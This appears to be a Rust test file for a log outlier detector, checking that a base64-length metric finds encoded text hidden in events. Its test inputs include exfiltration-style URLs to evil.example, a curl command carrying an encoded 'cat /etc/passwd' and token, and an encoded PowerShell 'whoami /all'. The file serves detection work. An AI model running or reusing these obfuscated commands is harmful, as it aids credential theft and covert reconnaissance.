//! Metrics of texts in which something is hidden.

use std::fs;

use crate::outliers;
use crate::program;

const USE_CASE: &str = "\
[metrics_b64]
es_query_filter=a:*
aggregator=a
target=u
metric=base64_encoded_length
trigger_on=high
trigger_method=float
trigger_sensitivity=-1
outlier_type=t
outlier_reason=r
outlier_summary=b64 {metric}
run_model=1
";

/// Returns the metric of each text, and the decoded text that was found in it.
fn hidden_in(texts: &[&str]) -> Vec<(u64, Option<String>)> {
    let folder = tempfile::tempdir().expect("a scratch folder");
    let event = |text: &&str| format!("{}\n", serde_json::json!({"a": "x", "u": text}));
    fs::write(folder.path().join("b64.conf"), USE_CASE).expect("written");
    fs::write(folder.path().join("b64.ndjson"), texts.iter().map(event).collect::<String>()).expect("written");
    let args = ["run", "--use-cases", "b64.conf", "--events", "b64.ndjson", "-o", "out.ndjson"];
    program::run(folder.path(), &args).expect_code(0);
    let written = outliers::read(&folder.path().join("out.ndjson")).expect("well-formed output");
    let found = |stored: &serde_json::Map<String, serde_json::Value>| {
        let word = stored.get("max_base64_decoded_word").and_then(|words| words[0].as_str()).map(str::to_owned);
        (stored["metric"][0].as_u64().expect("a number"), word)
    };
    written.values().map(found).collect()
}

fn check(texts: &[&str], expected: &[Option<&str>]) {
    let words: Vec<_> =
        expected.iter().map(|word| (word.map_or(0, str::len) as u64, word.map(str::to_owned))).collect();
    assert_eq!(hidden_in(texts), words);
}

#[test]
fn base64_in_addresses_is_found() {
    let word = Some("Hello world! This is a long text");
    check(
        &[
            "https://evil.example/q?d=SGVsbG8gd29ybGQhIFRoaXMgaXMgYSBsb25nIHRleHQ=",
            "https://evil.example/q SGVsbG8gd29ybGQhIFRoaXMgaXMgYSBsb25nIHRleHQ=",
            "https://evil.example/q/xSGVsbG8gd29ybGQhIFRoaXMgaXMgYSBsb25nIHRleHQ=",
            "https://evil.example/q?d=SGVsbG8gd29ybGQhIFRoaXMgaXMgYSBsb25nIHRleHQ",
        ],
        &[word; 4],
    );
}

#[test]
fn base64_in_command_lines_is_found_and_words_are_not() {
    check(
        &[
            "curl http://203.0.113.9/up/Y2F0IC9ldGMvcGFzc3dk/1 -H X-Token=cm9vdDp0b29y",
            "powershell -EncodedCommand=dwBoAG8AYQBtAGkAIAAvAGEAbABsAA",
            "certutil -hashfile C:/Windows/System32/Signals/RUNONCE SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
            "rundll32 /Visuals=SERVICE d41d8cd98f00b204e9800998ecf8427e",
        ],
        &[Some("cat /etc/passwd"), Some("w\0h\0o\0a\0m\0i\0 \0/\0a\0l\0l\0"), None, None],
    );
}
